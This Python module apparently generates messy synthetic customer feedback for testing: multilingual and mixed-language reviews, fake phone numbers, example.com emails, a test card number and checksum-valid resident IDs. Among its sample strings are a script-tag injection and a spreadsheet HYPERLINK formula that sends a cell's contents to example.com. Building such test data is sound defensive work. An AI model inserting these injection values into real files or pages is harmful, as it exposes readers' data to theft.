"""The sample's dirt: what real exports hold beside plain feedback, each piece counted in truth.yaml.

Called by `flows.sample.generate`. Everything personal is made up: phone numbers of hotlines and of documentation
ranges, e-mail at example.com, ids of the year 1949 with a valid checksum, the card schemes' own test number.
"""

from __future__ import annotations

from random import Random
from typing import Final

DEFAULT_PRAISE: Final = "此用户没有填写评价"
SCRIPT: Final = 'Nice kettle <script>alert("hello")</script>, well made and no leaks.'
FORMULA: Final = '=HYPERLINK("http://example.com/?x="&A1,"点我")做工扎实，用料足。'
OTHER_LANGUAGES: Final = (
    "お湯がすぐに沸いて、とても便利です。毎朝使っています。",
    "デザインがきれいで、母へのプレゼントにぴったりでした。",
    "届くのが遅くて、箱がつぶれていました。残念です。",
    "Отличный чайник, быстро кипятит и выглядит красиво.",
    "Доставка заняла три недели, коробка была помята.",
    "Пылесос тихий, но мощности не хватает для ковра.",
    "La cafetera es muy bonita y el café sale delicioso, estoy muy contento con la compra.",
    "El paquete llegó tarde y la caja estaba rota, nadie contesta el teléfono.",
    "Muy buena aspiradora, limpia bien toda la casa y no hace ruido.",
    "La tetera pierde agua por la base desde el primer día, qué decepción.",
)
MIXED: Final = (
    ("这个kettle真的很好看，boils fast and it is very quiet。", {"product.design": 1, "product.performance": 1}),
    ("客服reply很慢，四封邮件no response，I still haven't heard back。", {"personnel.responsiveness": -1}),
    ("App的界面太乱，not intuitive at all，找个定时要翻半天。", {"product.design": -1}),
    ("我的vacuum吸力强劲，cat hair is gone in one go，好用！", {"product.performance": 1}),
    ("质量很好，well made and sturdy，还会再买。", {"product.quality": 1, "outcome.loyalty": 1}),
)


def resident_id(number: int) -> str:
    """An 18-digit resident id with a valid checksum (GB 11643-1999); born in 1949, sequence `number`."""
    body = f"11010119491001{number:03d}"
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    return body + "10X98765432"[sum(int(d) * w for d, w in zip(body, weights, strict=True)) % 11]


def personal(chance: Random, language: str) -> tuple[str, list[str]]:
    """(a sentence that a customer adds, the personal data in it)."""
    n = chance.randint(100, 999)
    phone = chance.choice(("13800138000", "138 0013 8000"))
    made: list[tuple[str, list[str]]]
    if language == "zh":
        street = f"示范路{n}号{n % 9 + 1}幢{n % 20 + 1}02室"
        made = [
            (f"我的电话是{phone}，请回电。", [phone]),
            (f"联系人手机{phone}，邮箱user{n}@example.com。", [phone, f"user{n}@example.com"]),
            (f"身份证{resident_id(n)}已经提交过。", [resident_id(n)]),
            ("付款卡号4111 1111 1111 1111。", ["4111 1111 1111 1111"]),
            (f"地址：上海市浦东新区{street}。", [street]),
            (f"微信号：sample_user{n}。", [f"sample_user{n}"]),
            (f"订单号20260{n}88120{n}。", [f"20260{n}88120{n}"]),
        ]
    else:
        made = [
            (f"Please call me at +1 202-555-0{n % 100 + 100}.", [f"+1 202-555-0{n % 100 + 100}"]),
            (f"My email is user{n}@example.com.", [f"user{n}@example.com"]),
            ("Paid with card 4111 1111 1111 1111.", ["4111 1111 1111 1111"]),
            (f"Order number 20260{n}88120{n}.", [f"20260{n}88120{n}"]),
            (f"I live at {n} Example Street, Apt {n % 30 + 1}.", [f"{n} Example Street"]),
        ]
    return chance.choice(made)
